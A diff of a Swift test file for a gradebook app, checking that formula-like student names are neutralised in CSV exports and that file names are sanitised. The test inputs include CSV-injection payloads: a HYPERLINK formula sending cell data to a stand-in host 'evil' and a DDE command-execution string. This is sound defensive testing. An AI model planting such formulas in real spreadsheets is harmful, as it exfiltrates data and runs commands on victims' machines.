@@ -26,13 +26,14 @@ import Testing
 
     @Test func formulaCellsAreNeutralisedInTheCSV() throws {
         var (book, quiz) = try gradebook()
-        for name in ["=HYPERLINK(\"http://evil/\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tx", "plain"] {
+        for name in ["=HYPERLINK(\"http://evil/\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tx", "\u{1B} =cmd", "plain"] {
             book.add(file: name, data: try submission(quiz, student: name))
         }
         let cells = book.csv.split(separator: "\n").dropFirst().map { String($0) }
-        #expect(cells.count == 6)
+        #expect(cells.count == 7)
         for line in cells.dropLast() { #expect(line.hasPrefix("'") || line.hasPrefix("\"'"), "\(line)") }
         #expect(cells.last?.hasPrefix("plain,") == true)
+        #expect(!book.csv.contains("\t") && !book.csv.contains("\u{1B}"))
     }
 
     @Test func lookAlikeNamesAreTheSameStudent() throws {
@@ -66,7 +67,7 @@ import Testing
             let component = Submission.fileComponent(name)
             #expect(!component.contains("/") && component != ".." && !component.isEmpty)
         }
-        #expect(Submission.fileComponent("ada") == "ada")
+        #expect(Submission.fileComponent("ada") == "ada" && Submission.fileComponent("unit-orientation") == "unit-orientation")
         #expect(Submission.fileComponent("A/B") != Submission.fileComponent("A_B"))
     }
 }
